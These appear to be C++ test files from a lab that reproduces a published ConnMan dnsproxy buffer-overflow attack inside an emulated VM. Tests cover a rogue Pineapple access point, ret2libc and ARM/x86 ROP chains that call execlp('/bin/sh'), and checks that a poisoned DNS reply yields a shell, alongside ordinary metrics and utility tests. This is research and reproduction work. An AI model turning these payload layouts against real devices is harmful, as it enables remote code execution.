    auto outcome = proxy.HandleServerResponse(util::Bytes{0xFF, 0xFF, 0xFF});
    EXPECT_EQ(outcome.kind, Kind::kDroppedInvalid);
  }
  // Traffic still flows:
  dns::Message query = dns::Message::Query(0x31, "still.works");
  ASSERT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
  dns::Message response = dns::Message::ResponseFor(query);
  response.answers.push_back(dns::MakeA("still.works", "4.3.2.1", 60));
  EXPECT_EQ(proxy.HandleServerResponse(dns::Encode(response).value()).kind,
            Kind::kParsedOk);
}

// --------------------------------------------------------- full stack ----

TEST(FullStack, VictimRoamsBackAfterPineapplePowersOff) {
  net::Network network;
  net::Radio radio;
  net::LegitDnsServer dns_server("192.168.1.53");
  dns_server.AddRecord("cloud.example", "5.5.5.5");
  network.Attach(dns_server.ip(), &dns_server);
  net::AccessPoint home("HomeWiFi", -60,
                        net::DhcpServer("192.168.1", "192.168.1.1",
                                        dns_server.ip()));
  radio.AddAp(&home);

  auto sys = Boot(Arch::kVARM, ProtectionConfig::WxAslr(), 12).value();
  net::VictimDevice victim(*sys, Version::k135, "HomeWiFi");
  ASSERT_TRUE(victim.JoinWifi(radio, network).ok());

  net::Pineapple pineapple("HomeWiFi", -30);
  pineapple.set_dns_mode(net::FakeDnsServer::Mode::kDos);
  pineapple.PowerOn(radio, network);
  ASSERT_TRUE(victim.JoinWifi(radio, network).ok());
  EXPECT_EQ(victim.lease().dns_server, pineapple.ip());

  // Patched firmware shrugs the payload off...
  ASSERT_TRUE(victim.Lookup(network, "cloud.example").ok());
  network.DeliverAll();
  EXPECT_FALSE(victim.crashed());

  // ...and when the rogue AP disappears the device resumes normal life.
  pineapple.PowerOff(radio, network);
  ASSERT_TRUE(victim.JoinWifi(radio, network).ok());
  EXPECT_EQ(victim.lease().dns_server, dns_server.ip());
  ASSERT_TRUE(victim.Lookup(network, "cloud.example").ok());
  network.DeliverAll();
  ASSERT_FALSE(victim.outcomes().empty());
  EXPECT_EQ(victim.outcomes().back().kind, Kind::kParsedOk);
}

TEST(FullStack, ExploitArtifactsAreDeterministic) {
  // The whole §III pipeline — probe, profile, build, cut — produces
  // byte-identical artifacts across runs (replayability of experiments).
  auto build = [](std::uint64_t seed) {
    auto sys = Boot(Arch::kVARM, ProtectionConfig::WxAslr(), seed).value();
    DnsProxy proxy(*sys, Version::k134);
    exploit::ProfileExtractor extractor(*sys, proxy);
    auto profile = extractor.Extract().value();
    exploit::ExploitGenerator generator(profile);
    return generator.BuildImage(exploit::Technique::kRopMemcpyChain)
        .value()
        .bytes();
  };
  EXPECT_EQ(build(100), build(100));
  EXPECT_EQ(build(100), build(555));  // even across ASLR draws
}

TEST(FullStack, OneExploitResponseAmongBenignTraffic) {
  // The attack scenario the Pineapple creates: a stream of benign
  // responses with exactly one poisoned reply in the middle.
  auto lab = Boot(Arch::kVX86, ProtectionConfig::WxAslr(), 100).value();
  DnsProxy lab_proxy(*lab, Version::k134);
  exploit::ProfileExtractor extractor(*lab, lab_proxy);
  auto profile = extractor.Extract().value();
  exploit::ExploitGenerator generator(profile);

  auto target = Boot(Arch::kVX86, ProtectionConfig::WxAslr(), 31337).value();
  DnsProxy proxy(*target, Version::k134);
  for (int i = 0; i < 5; ++i) {
    dns::Message query =
        dns::Message::Query(static_cast<std::uint16_t>(i), "ok.example");
    ASSERT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
    dns::Message response = dns::Message::ResponseFor(query);
    response.answers.push_back(dns::MakeA("ok.example", "1.1.1.1", 60));
    EXPECT_EQ(proxy.HandleServerResponse(dns::Encode(response).value()).kind,
              Kind::kParsedOk);
  }
  dns::Message query = dns::Message::Query(0x99, "poisoned.example");
  ASSERT_TRUE(proxy.AcceptClientQuery(dns::Encode(query).value()).ok());
  auto evil =
      generator.BuildResponse(query, exploit::Technique::kRopMemcpyChain);
  ASSERT_TRUE(evil.ok());
  auto outcome = proxy.HandleServerResponse(dns::Encode(evil.value()).value());
  EXPECT_EQ(outcome.kind, Kind::kShell) << outcome.ToString();
  // The benign cache survived up to the hijack.
  EXPECT_EQ(proxy.cache().Lookup("ok.example", proxy.now() + 1).size(), 1u);
}

TEST(FullStack, ScenarioSeedsProduceDistinctAslrButSameResult) {
  for (std::uint64_t target_seed : {1ull, 2ull, 3ull, 4ull}) {
    attack::ScenarioConfig config;
    config.arch = Arch::kVARM;
    config.prot = ProtectionConfig::WxAslr();
    config.target_seed = target_seed;
    auto result = attack::RunControlledScenario(config);
    ASSERT_TRUE(result.ok());
    EXPECT_TRUE(result.value().shell) << "seed " << target_seed;
  }
}

}  // namespace
}  // namespace connlab
