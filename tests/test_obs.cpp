// Observability layer tests: sharded counter/gauge/histogram semantics,
// registry interning, Chrome-trace export well-formedness, obs::Scope
// rebasing, thread-safety of the hot-path increments (exercised under tsan
// in CI), and the differentials that pin the layer's core promises:
// deterministic fixed-seed campaign metrics, fuzz.execs == reported execs,
// and identical campaign results with and without a trace sink installed.
#include <gtest/gtest.h>

#include <string>
#include <thread>
#include <vector>

#include "src/fuzz/fuzzer.hpp"
#include "src/obs/obs.hpp"
#include "src/vm/superblock.hpp"

namespace connlab::obs {
namespace {

// ------------------------------------------------------------- metrics ----

TEST(ObsMetrics, CounterAddAndSum) {
  Counter c("test.counter");
  EXPECT_EQ(c.Value(), 0u);
  c.Add();
  c.Add(41);
  EXPECT_EQ(c.Value(), 42u);
  EXPECT_EQ(c.name(), "test.counter");
}

TEST(ObsMetrics, GaugeLastWriteWins) {
  Gauge g("test.gauge");
  g.Set(7);
  g.Set(3);
  EXPECT_EQ(g.Value(), 3u);
}

TEST(ObsMetrics, HistogramBucketMap) {
  EXPECT_EQ(Histogram::BucketIndex(0), 0u);
  EXPECT_EQ(Histogram::BucketIndex(1), 1u);
  EXPECT_EQ(Histogram::BucketIndex(2), 2u);
  EXPECT_EQ(Histogram::BucketIndex(3), 2u);
  EXPECT_EQ(Histogram::BucketIndex(4), 3u);
  EXPECT_EQ(Histogram::BucketIndex(1023), 10u);
  EXPECT_EQ(Histogram::BucketIndex(1024), 11u);
  // Values past the top bucket saturate instead of indexing out of range.
  EXPECT_EQ(Histogram::BucketIndex(~0ull), Histogram::kBuckets - 1);
}

TEST(ObsMetrics, HistogramObserveAggregates) {
  Histogram h("test.hist");
  h.Observe(0);
  h.Observe(5);
  h.Observe(5);
  h.Observe(600);
  const Histogram::Data data = h.Snapshot();
  EXPECT_EQ(data.count, 4u);
  EXPECT_EQ(data.sum, 610u);
  ASSERT_EQ(data.buckets.size(), Histogram::kBuckets);
  EXPECT_EQ(data.buckets[0], 1u);                           // the zero
  EXPECT_EQ(data.buckets[Histogram::BucketIndex(5)], 2u);   // the fives
  EXPECT_EQ(data.buckets[Histogram::BucketIndex(600)], 1u);
}

TEST(ObsMetrics, RegistryInternsByName) {
  Registry& reg = Registry::Instance();
  Counter& a = reg.GetCounter("obs_test.interned");
  Counter& b = reg.GetCounter("obs_test.interned");
  EXPECT_EQ(&a, &b);
  a.Add(5);
  const MetricsSnapshot snap = reg.Scrape();
  const auto it = snap.counters.find("obs_test.interned");
  ASSERT_NE(it, snap.counters.end());
  EXPECT_GE(it->second, 5u);
}

TEST(ObsMetrics, DeltaSinceRebasesCountersAndHistograms) {
  Registry& reg = Registry::Instance();
  Counter& c = reg.GetCounter("obs_test.delta");
  Histogram& h = reg.GetHistogram("obs_test.delta_hist");
  c.Add(10);
  h.Observe(4);
  const MetricsSnapshot base = reg.Scrape();
  c.Add(3);
  h.Observe(4);
  h.Observe(9);
  const MetricsSnapshot delta = reg.Scrape().DeltaSince(base);
  EXPECT_EQ(delta.counters.at("obs_test.delta"), 3u);
  const Histogram::Data& hd = delta.histograms.at("obs_test.delta_hist");
  EXPECT_EQ(hd.count, 2u);
  EXPECT_EQ(hd.sum, 13u);
}

// Hot-path increments from many threads must neither race (tsan runs this
// suite in CI) nor lose counts.
TEST(ObsMetrics, ShardedCounterThreadSafety) {
  Registry& reg = Registry::Instance();
  constexpr int kThreads = 8;
  constexpr std::uint64_t kPerThread = 20000;
  const MetricsSnapshot base = reg.Scrape();
  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&reg] {
      // GetCounter from every thread on purpose: the registry mutex and the
      // sharded adds are both part of the contract under test.
      Counter& c = reg.GetCounter("obs_test.threads");
      Histogram& h = reg.GetHistogram("obs_test.threads_hist");
      for (std::uint64_t i = 0; i < kPerThread; ++i) {
        c.Add();
        if (i % 1000 == 0) h.Observe(i);
      }
    });
  }
  for (std::thread& t : threads) t.join();
  const MetricsSnapshot delta = reg.Scrape().DeltaSince(base);
  EXPECT_EQ(delta.counters.at("obs_test.threads"), kThreads * kPerThread);
  EXPECT_EQ(delta.histograms.at("obs_test.threads_hist").count,
            kThreads * (kPerThread / 1000));
}

// --------------------------------------------------------------- trace ----

TEST(ObsTrace, SpanIsNoOpWithoutSink) {
  ASSERT_EQ(CurrentTraceSink(), nullptr);
  {
    TraceSpan span("test", "ignored");
    span.Arg("key", "value");
  }
  EXPECT_EQ(CurrentTraceSink(), nullptr);
}

TEST(ObsTrace, SinkRecordsSpansAndInstants) {
  TraceSink sink;
  TraceSink* prev = InstallTraceSink(&sink);
  {
    TraceSpan span("test", "outer");
    span.Arg("answer", std::uint64_t{42});
    sink.RecordInstant("test", "tick");
  }
  InstallTraceSink(prev);
  const std::vector<TraceEvent> events = sink.Events();
  ASSERT_EQ(events.size(), 2u);
  // Sorted by timestamp: the instant happened inside the span.
  EXPECT_LE(events.front().ts_us, events.back().ts_us);
  bool saw_span = false;
  bool saw_instant = false;
  for (const TraceEvent& e : events) {
    if (e.name == "outer") {
      saw_span = true;
      EXPECT_FALSE(e.instant);
      ASSERT_EQ(e.args.size(), 1u);
      EXPECT_EQ(e.args[0].first, "answer");
      EXPECT_EQ(e.args[0].second, "42");
    }
    if (e.name == "tick") {
      saw_instant = true;
      EXPECT_TRUE(e.instant);
    }
  }
  EXPECT_TRUE(saw_span);
  EXPECT_TRUE(saw_instant);
}

TEST(ObsTrace, EventsAreTimestampSorted) {
  TraceSink sink;
  // Deliberately recorded out of order.
  sink.RecordSpan(50, 60, "test", "late");
  sink.RecordSpan(10, 20, "test", "early");
  const std::vector<TraceEvent> events = sink.Events();
  ASSERT_EQ(events.size(), 2u);
  for (std::size_t i = 1; i < events.size(); ++i) {
    EXPECT_LE(events[i - 1].ts_us, events[i].ts_us);
  }
  EXPECT_EQ(events[0].name, "early");
  EXPECT_EQ(events[1].name, "late");
}

TEST(ObsTrace, JsonExportIsWellFormed) {
  TraceSink sink;
  sink.RecordSpan(10, 25, "fuzz", "span \"quoted\"\n");
  sink.RecordInstant("fuzz", "crash", {{"detail", "a\tb"}});
  const std::string json = TraceToJson(sink.Events());
  EXPECT_NE(json.find("\"traceEvents\""), std::string::npos);
  EXPECT_NE(json.find("\"ph\": \"X\""), std::string::npos);
  EXPECT_NE(json.find("\"ph\": \"i\""), std::string::npos);
  EXPECT_NE(json.find("\"dur\": 15"), std::string::npos);
  // Control characters and quotes must come out escaped.
  EXPECT_NE(json.find("span \\\"quoted\\\"\\n"), std::string::npos);
  EXPECT_NE(json.find("a\\tb"), std::string::npos);
  // Crude but effective balance check over the whole document.
  int depth = 0;
  bool in_string = false;
  for (std::size_t i = 0; i < json.size(); ++i) {
    const char c = json[i];
    if (in_string) {
      if (c == '\\') ++i;
      else if (c == '"') in_string = false;
      continue;
    }
    if (c == '"') in_string = true;
    if (c == '{' || c == '[') ++depth;
    if (c == '}' || c == ']') --depth;
    ASSERT_GE(depth, 0);
  }
  EXPECT_EQ(depth, 0);
  EXPECT_FALSE(in_string);
}

// --------------------------------------------------------------- scope ----

TEST(ObsScope, InstallsAndRestoresSink) {
  ASSERT_EQ(CurrentTraceSink(), nullptr);
  {
    Scope outer(ScopeOptions{.trace = true});
    EXPECT_EQ(CurrentTraceSink(), outer.trace_sink());
    {
      // A nested tracing scope chains to the outer sink and puts it back.
      Scope inner(ScopeOptions{.trace = true});
      EXPECT_EQ(CurrentTraceSink(), inner.trace_sink());
    }
    EXPECT_EQ(CurrentTraceSink(), outer.trace_sink());
  }
  EXPECT_EQ(CurrentTraceSink(), nullptr);
}

TEST(ObsScope, NonTracingScopeLeavesSinkAlone) {
  Scope scope;  // default: no trace
  EXPECT_EQ(scope.trace_sink(), nullptr);
  EXPECT_EQ(CurrentTraceSink(), nullptr);
  const util::Status status = scope.WriteTraceJson("/dev/null");
  EXPECT_FALSE(status.ok());
}

// ------------------------------------------------------------ campaign ----

fuzz::FuzzConfig SmallCampaign(std::uint64_t seed, std::size_t workers) {
  fuzz::FuzzConfig config;
  config.seed = seed;
  config.max_execs = 600;
  config.workers = workers;
  config.target.kind = fuzz::TargetKind::kDnsproxy;
  return config;
}

// A fixed-seed campaign produces exactly the counter values its report
// claims — fuzz.execs in particular is defined to match stats.execs.
TEST(ObsCampaign, FixedSeedCampaignMetricsAreExact) {
  Scope scope;
  auto report = fuzz::Fuzzer(SmallCampaign(42, 1)).Run();
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  const fuzz::FuzzStats& stats = report.value().stats;
  const MetricsSnapshot m = scope.Metrics();
  EXPECT_EQ(m.counters.at("fuzz.execs"), stats.execs);
  EXPECT_EQ(m.counters.at("fuzz.crashes"), stats.crashing_execs);
  EXPECT_EQ(m.counters.at("fuzz.reboots"), stats.reboots);
  EXPECT_EQ(m.counters.at("fuzz.worker.0.execs"), stats.execs);
  // Every exec observed its input size exactly once.
  EXPECT_EQ(m.histograms.at("fuzz.input_bytes").count, stats.execs);
  // The campaign booted at least the fuzz target (and its snapshot).
  EXPECT_GE(m.counters.at("loader.boots"), 1u);
  EXPECT_GE(m.counters.at("loader.snapshots_taken"), 1u);
}

// Two identically-seeded campaigns scrape identical counter deltas.
TEST(ObsCampaign, MetricsAreDeterministicAcrossRuns) {
  const auto run_once = [] {
    // Start each run with a cold shared-superblock registry: with a warm one
    // the second run imports blocks the first run compiled, shifting counts
    // between vm.superblock.compiles and vm.superblock.imports (total work
    // is identical — that split is the one counter that reflects process
    // history rather than the seed).
    connlab::vm::SharedSuperblockRegistry::Instance().Clear();
    Scope scope;
    auto report = fuzz::Fuzzer(SmallCampaign(7, 2)).Run();
    EXPECT_TRUE(report.ok());
    MetricsSnapshot m = scope.Metrics();
    // Wall-clock gauges/rates don't exist in the registry; everything
    // scraped here is a deterministic function of the seed.
    return m;
  };
  const MetricsSnapshot a = run_once();
  const MetricsSnapshot b = run_once();
  EXPECT_EQ(a.counters, b.counters);
  EXPECT_EQ(a.histograms.at("fuzz.input_bytes").count,
            b.histograms.at("fuzz.input_bytes").count);
  EXPECT_EQ(a.histograms.at("fuzz.input_bytes").sum,
            b.histograms.at("fuzz.input_bytes").sum);
}

// The superblock tier's counters ride the CPU's batched obs flush: a
// campaign with the tier on (the default) exports compiles/hits/fallbacks
// under vm.superblock.*, and every compiled block is executed at least
// once. With the tier disabled on the target, the counters never appear —
// the campaign's counter deltas all stay at zero.
TEST(ObsCampaign, SuperblockCountersExported) {
  const auto value_or_zero = [](const MetricsSnapshot& m, const char* name) {
    auto it = m.counters.find(name);
    return it == m.counters.end() ? std::uint64_t{0} : it->second;
  };
  {
    // Cold shared registry so compiled blocks count as compiles here, not
    // as imports of some earlier test's canonicals.
    connlab::vm::SharedSuperblockRegistry::Instance().Clear();
    Scope scope;
    auto report = fuzz::Fuzzer(SmallCampaign(42, 1)).Run();
    ASSERT_TRUE(report.ok()) << report.status().ToString();
    const MetricsSnapshot m = scope.Metrics();
    EXPECT_GT(m.counters.at("vm.superblock.compiles"), 0u);
    EXPECT_GT(m.counters.at("vm.superblock.hits"), 0u);
    EXPECT_GE(m.counters.at("vm.superblock.hits"),
              m.counters.at("vm.superblock.compiles"));
    // Host-function pcs and interpreter-only regions fall back by design.
    EXPECT_GT(m.counters.at("vm.superblock.fallbacks"), 0u);
    // The guest's hot copy loop spans two blocks (test + body), so the
    // block-link path must have fired. (No resumes assertion: the fuzz
    // harness enters copy_label via set_pc, never through a guest call to a
    // trampoline — continuation coverage lives in test_vm.)
    EXPECT_GT(m.counters.at("vm.superblock.links"), 0u);
  }
  {
    Scope scope;
    fuzz::FuzzConfig config = SmallCampaign(42, 1);
    config.target.superblocks = false;
    auto report = fuzz::Fuzzer(config).Run();
    ASSERT_TRUE(report.ok()) << report.status().ToString();
    const MetricsSnapshot m = scope.Metrics();
    EXPECT_EQ(value_or_zero(m, "vm.superblock.compiles"), 0u);
    EXPECT_EQ(value_or_zero(m, "vm.superblock.hits"), 0u);
    EXPECT_EQ(value_or_zero(m, "vm.superblock.fallbacks"), 0u);
    EXPECT_EQ(value_or_zero(m, "vm.superblock.invalidations"), 0u);
    EXPECT_EQ(value_or_zero(m, "vm.superblock.links"), 0u);
    EXPECT_EQ(value_or_zero(m, "vm.superblock.resumes"), 0u);
    EXPECT_EQ(value_or_zero(m, "vm.superblock.imports"), 0u);
  }
}

// The differential behind the "zero-cost when off" claim: installing a
// trace sink must not change what the campaign computes — same coverage
// digest, same exec count, same retired guest steps.
TEST(ObsCampaign, TraceSinkDoesNotPerturbCampaign) {
  std::uint64_t digest_off = 0, digest_on = 0;
  std::uint64_t execs_off = 0, execs_on = 0;
  std::uint64_t steps_off = 0, steps_on = 0;
  {
    Scope scope;  // metrics only, no sink installed
    auto report = fuzz::Fuzzer(SmallCampaign(1234, 2)).Run();
    ASSERT_TRUE(report.ok());
    digest_off = report.value().stats.coverage_digest;
    execs_off = report.value().stats.execs;
    steps_off = scope.Metrics().counters.at("vm.steps");
  }
  {
    Scope scope(ScopeOptions{.trace = true});
    auto report = fuzz::Fuzzer(SmallCampaign(1234, 2)).Run();
    ASSERT_TRUE(report.ok());
    digest_on = report.value().stats.coverage_digest;
    execs_on = report.value().stats.execs;
    steps_on = scope.Metrics().counters.at("vm.steps");
    EXPECT_GT(scope.trace_sink()->size(), 0u);
  }
  EXPECT_EQ(digest_off, digest_on);
  EXPECT_EQ(execs_off, execs_on);
  EXPECT_EQ(steps_off, steps_on);
}

// -------------------------------------------------------------- export ----

TEST(ObsExport, MetricsJsonCarriesScrapedValues) {
  Scope scope;
  Registry::Instance().GetCounter("obs_test.export").Add(9);
  Registry::Instance().GetHistogram("obs_test.export_hist").Observe(16);
  const std::string json = MetricsToJson(scope.Metrics());
  EXPECT_NE(json.find("\"obs_test.export\": 9"), std::string::npos);
  EXPECT_NE(json.find("\"obs_test.export_hist.count\": 1"), std::string::npos);
  EXPECT_NE(json.find("\"obs_test.export_hist.sum\": 16"), std::string::npos);
  EXPECT_NE(json.find("\"obs_test.export_hist.buckets\": ["),
            std::string::npos);
}

TEST(ObsExport, RenderTableGroupsAndSkipsZeros) {
  Scope scope;
  Registry::Instance().GetCounter("obs_test.table_hit").Add(3);
  // A counter that existed before the scope shows a zero delta: hidden.
  Registry::Instance().GetCounter("obs_test.table_zero");
  const std::string table = RenderMetricsTable(scope.Metrics());
  EXPECT_NE(table.find("[obs_test]"), std::string::npos);
  EXPECT_NE(table.find("obs_test.table_hit"), std::string::npos);
  EXPECT_EQ(table.find("obs_test.table_zero"), std::string::npos);
}

}  // namespace
}  // namespace connlab::obs
