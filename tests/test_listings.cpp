// Golden-structure tests: the generated payloads must have exactly the
// word-level layout of the paper's listings (2, 3, 4, 5) — not merely
// "some chain that works".
#include <gtest/gtest.h>

#include "src/connman/dnsproxy.hpp"
#include "src/connman/frame.hpp"
#include "src/exploit/generator.hpp"
#include "src/exploit/profile.hpp"
#include "src/exploit/ret2libc.hpp"
#include "src/exploit/rop_arm.hpp"
#include "src/exploit/rop_x86.hpp"
#include "src/loader/boot.hpp"

namespace connlab::exploit {
namespace {

using isa::Arch;
using loader::Boot;
using loader::ProtectionConfig;

std::uint32_t WordAt(const dns::PayloadImage& image, std::uint32_t offset) {
  return static_cast<std::uint32_t>(image.at(offset)) |
         (static_cast<std::uint32_t>(image.at(offset + 1)) << 8) |
         (static_cast<std::uint32_t>(image.at(offset + 2)) << 16) |
         (static_cast<std::uint32_t>(image.at(offset + 3)) << 24);
}

TargetProfile Extract(Arch arch, ProtectionConfig prot) {
  auto sys = Boot(arch, prot, 100).value();
  connman::DnsProxy proxy(*sys, connman::Version::k134);
  ProfileExtractor extractor(*sys, proxy);
  auto profile = extractor.Extract();
  EXPECT_TRUE(profile.ok()) << profile.status().ToString();
  return profile.value_or(TargetProfile{});
}

// Paper §III-B1: the x86 ret-to-libc frame is [&system][&exit][&"/bin/sh"].
TEST(Listings, X86Ret2LibcFrame) {
  TargetProfile profile = Extract(Arch::kVX86, ProtectionConfig::WxOnly());
  auto image = BuildRet2Libc(profile);
  ASSERT_TRUE(image.ok());
  const std::uint32_t ret = profile.ret_offset;
  EXPECT_EQ(WordAt(image.value(), ret), profile.libc_system);
  EXPECT_EQ(WordAt(image.value(), ret + 4), profile.libc_exit);
  EXPECT_EQ(WordAt(image.value(), ret + 8), profile.libc_binsh);
  EXPECT_EQ(image.value().size(), ret + 12);
}

// Paper Listing 2: [pop gadget]; r0 = static &"/bin/sh"; r1 = NULL; r5/r6 =
// the parse_rr placeholders; pc = execlp@plt.
TEST(Listings, Listing2ArmExeclpFrame) {
  TargetProfile profile = Extract(Arch::kVARM, ProtectionConfig::WxOnly());
  auto image = BuildArmExeclpGadget(profile);
  ASSERT_TRUE(image.ok());
  const std::uint32_t ret = profile.ret_offset;
  const std::uint32_t chain = ret + 4;
  EXPECT_EQ(WordAt(image.value(), ret), profile.gadget_pop_regs);
  EXPECT_EQ(WordAt(image.value(), chain + 0), profile.libc_binsh);  // r0
  EXPECT_EQ(WordAt(image.value(), chain + 4), 0u);                  // r1 NULL
  EXPECT_EQ(WordAt(image.value(), chain + 16),
            profile.chain_fixups.at(16));                           // r5
  EXPECT_EQ(WordAt(image.value(), chain + 20),
            profile.chain_fixups.at(20));                           // r6
  EXPECT_EQ(WordAt(image.value(), chain + 28), profile.plt_execlp); // pc
}

// Paper Listing 3: each x86 memcpy frame is
// [memcpy@plt][pppr][bss+i][&char][1][garbage].
TEST(Listings, Listing3X86MemcpyFrames) {
  TargetProfile profile = Extract(Arch::kVX86, ProtectionConfig::WxAslr());
  auto image = BuildRopX86(profile, "/bin/sh");
  ASSERT_TRUE(image.ok());
  const std::string str = "/bin/sh";
  std::uint32_t c = profile.ret_offset;
  for (std::size_t i = 0; i < str.size(); ++i) {
    EXPECT_EQ(WordAt(image.value(), c + 0), profile.plt_memcpy) << i;
    EXPECT_EQ(WordAt(image.value(), c + 4), profile.gadget_pop_ret4) << i;
    EXPECT_EQ(WordAt(image.value(), c + 8),
              profile.bss + static_cast<std::uint32_t>(i)) << i;
    EXPECT_EQ(WordAt(image.value(), c + 12), profile.char_addrs.at(str[i])) << i;
    EXPECT_EQ(WordAt(image.value(), c + 16), 1u) << i;
    // c + 20 is the garbage word: must be don't-care for the cutter.
    EXPECT_FALSE(image.value().required(c + 20)) << i;
    c += 24;
  }
  // Paper Listing 4: [execlp@plt][spacer][&bss][NULL].
  EXPECT_EQ(WordAt(image.value(), c + 0), profile.plt_execlp);
  EXPECT_FALSE(image.value().required(c + 4));  // spacer
  EXPECT_EQ(WordAt(image.value(), c + 8), profile.bss);
  EXPECT_EQ(WordAt(image.value(), c + 12), 0u);
}

// Paper Listing 5: each ARM memcpy frame is
// [r0=bss+4+i][r1=&char][r2=1][r3=memcpy@plt][r5][r6][r7][pc=blx r3]
// followed by the blx-offset word and the next pop gadget.
TEST(Listings, Listing5ArmMemcpyFrames) {
  TargetProfile profile = Extract(Arch::kVARM, ProtectionConfig::WxAslr());
  auto image = BuildArmRopChain(profile, {});
  ASSERT_TRUE(image.ok());
  const std::string str = "sh";
  const std::uint32_t ret = profile.ret_offset;
  EXPECT_EQ(WordAt(image.value(), ret), profile.gadget_pop_regs);
  std::uint32_t c = ret + 4;
  for (std::size_t i = 0; i < str.size(); ++i) {
    EXPECT_EQ(WordAt(image.value(), c + 0),
              profile.bss + 4 + static_cast<std::uint32_t>(i)) << i;  // r0
    EXPECT_EQ(WordAt(image.value(), c + 4), profile.char_addrs.at(str[i])) << i;
    EXPECT_EQ(WordAt(image.value(), c + 8), 1u) << i;                 // r2
    EXPECT_EQ(WordAt(image.value(), c + 12), profile.plt_memcpy) << i;
    EXPECT_EQ(WordAt(image.value(), c + 28), profile.gadget_blx_r3) << i;
    // The "offset characters for blx" word (Listing 5 line 10): dont-care.
    EXPECT_FALSE(image.value().required(c + 32)) << i;
    EXPECT_EQ(WordAt(image.value(), c + 36), profile.gadget_pop_regs) << i;
    c += 40;
  }
  // First frame's r5/r6 carry the parse_rr placeholders (lines 7-8).
  EXPECT_EQ(WordAt(image.value(), ret + 4 + 16), profile.chain_fixups.at(16));
  EXPECT_EQ(WordAt(image.value(), ret + 4 + 20), profile.chain_fixups.at(20));
  // Final frame: execlp(bss+4, NULL).
  EXPECT_EQ(WordAt(image.value(), c + 0), profile.bss + 4);
  EXPECT_EQ(WordAt(image.value(), c + 4), 0u);
  EXPECT_EQ(WordAt(image.value(), c + 28), profile.plt_execlp);
}

// §III-A: the ARM injection must stop at the saved lr (no spray past it, so
// the parse_rr slots keep their benign values) while x86 sprays onward.
TEST(Listings, CodeInjectionSprayPolicy) {
  TargetProfile x86 = Extract(Arch::kVX86, ProtectionConfig::None());
  ExploitGenerator gx(x86);
  auto image_x = gx.BuildImage(Technique::kCodeInjection);
  ASSERT_TRUE(image_x.ok());
  EXPECT_GT(image_x.value().size(), x86.ret_offset + 4);  // the spray

  TargetProfile arm = Extract(Arch::kVARM, ProtectionConfig::None());
  ExploitGenerator ga(arm);
  auto image_a = ga.BuildImage(Technique::kCodeInjection);
  ASSERT_TRUE(image_a.ok());
  EXPECT_EQ(image_a.value().size(), arm.ret_offset + 4);  // stops at lr
  // The NULL cleanup slots are pinned to zero (§III-A2).
  const connman::FrameLayout frame =
      connman::FrameFor(ProtectionConfig::None(), Arch::kVARM);
  EXPECT_TRUE(image_a.value().required(frame.null_slot0()));
  EXPECT_EQ(WordAt(image_a.value(), frame.null_slot0()), 0u);
  EXPECT_EQ(WordAt(image_a.value(), frame.null_slot1()), 0u);
}

}  // namespace
}  // namespace connlab::exploit
