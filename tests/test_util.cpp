// Unit tests for src/util: Status/Result, byte cursors, RNG, hexdump, and
// the parallel execution helpers.
#include <gtest/gtest.h>

#include <atomic>
#include <thread>
#include <vector>

#include "src/util/bytes.hpp"
#include "src/util/hexdump.hpp"
#include "src/util/parallel.hpp"
#include "src/util/rng.hpp"
#include "src/util/status.hpp"

namespace connlab::util {
namespace {

TEST(Status, DefaultIsOk) {
  Status s;
  EXPECT_TRUE(s.ok());
  EXPECT_EQ(s.code(), StatusCode::kOk);
  EXPECT_EQ(s.ToString(), "OK");
}

TEST(Status, ErrorCarriesCodeAndMessage) {
  Status s = NotFound("missing widget");
  EXPECT_FALSE(s.ok());
  EXPECT_EQ(s.code(), StatusCode::kNotFound);
  EXPECT_EQ(s.message(), "missing widget");
  EXPECT_EQ(s.ToString(), "NOT_FOUND: missing widget");
}

TEST(Status, EveryCodeHasAName) {
  for (int c = 0; c <= static_cast<int>(StatusCode::kUnimplemented); ++c) {
    EXPECT_NE(StatusCodeName(static_cast<StatusCode>(c)), "UNKNOWN");
  }
}

TEST(Result, HoldsValue) {
  Result<int> r(42);
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r.value(), 42);
  EXPECT_TRUE(r.status().ok());
}

TEST(Result, HoldsError) {
  Result<int> r(OutOfRange("nope"));
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.status().code(), StatusCode::kOutOfRange);
  EXPECT_EQ(r.value_or(7), 7);
}

Status UseReturnIfError(bool fail) {
  CONNLAB_RETURN_IF_ERROR(fail ? Internal("boom") : OkStatus());
  return OkStatus();
}

TEST(Result, ReturnIfErrorMacro) {
  EXPECT_TRUE(UseReturnIfError(false).ok());
  EXPECT_EQ(UseReturnIfError(true).code(), StatusCode::kInternal);
}

Result<int> Doubled(Result<int> in) {
  CONNLAB_ASSIGN_OR_RETURN(int v, in);
  return v * 2;
}

TEST(Result, AssignOrReturnMacro) {
  EXPECT_EQ(Doubled(21).value(), 42);
  EXPECT_FALSE(Doubled(InvalidArgument("x")).ok());
}

TEST(Bytes, BytesOfAndToHex) {
  Bytes b = BytesOf("AB");
  ASSERT_EQ(b.size(), 2u);
  EXPECT_EQ(b[0], 'A');
  EXPECT_EQ(ToHex(b), "4142");
  EXPECT_EQ(ToHex(Bytes{}), "");
}

TEST(ByteReader, ReadsScalarsBigEndian) {
  Bytes data{0x12, 0x34, 0x56, 0x78, 0x9a, 0xbc};
  ByteReader r(data);
  EXPECT_EQ(r.ReadU16BE().value(), 0x1234);
  EXPECT_EQ(r.ReadU32BE().value(), 0x56789abcu);
  EXPECT_TRUE(r.empty());
}

TEST(ByteReader, ReadsScalarsLittleEndian) {
  Bytes data{0x12, 0x34, 0x56, 0x78, 0x9a, 0xbc};
  ByteReader r(data);
  EXPECT_EQ(r.ReadU16LE().value(), 0x3412);
  EXPECT_EQ(r.ReadU32LE().value(), 0xbc9a7856u);
}

TEST(ByteReader, TruncationIsMalformedNotFatal) {
  Bytes data{0x01};
  ByteReader r(data);
  EXPECT_EQ(r.ReadU16BE().status().code(), StatusCode::kMalformed);
  EXPECT_EQ(r.ReadU8().value(), 0x01);  // cursor unchanged by failed read
  EXPECT_EQ(r.ReadU8().status().code(), StatusCode::kMalformed);
}

TEST(ByteReader, SeekSupportsCompressionJumps) {
  Bytes data{0xAA, 0xBB, 0xCC};
  ByteReader r(data);
  ASSERT_TRUE(r.Seek(2).ok());
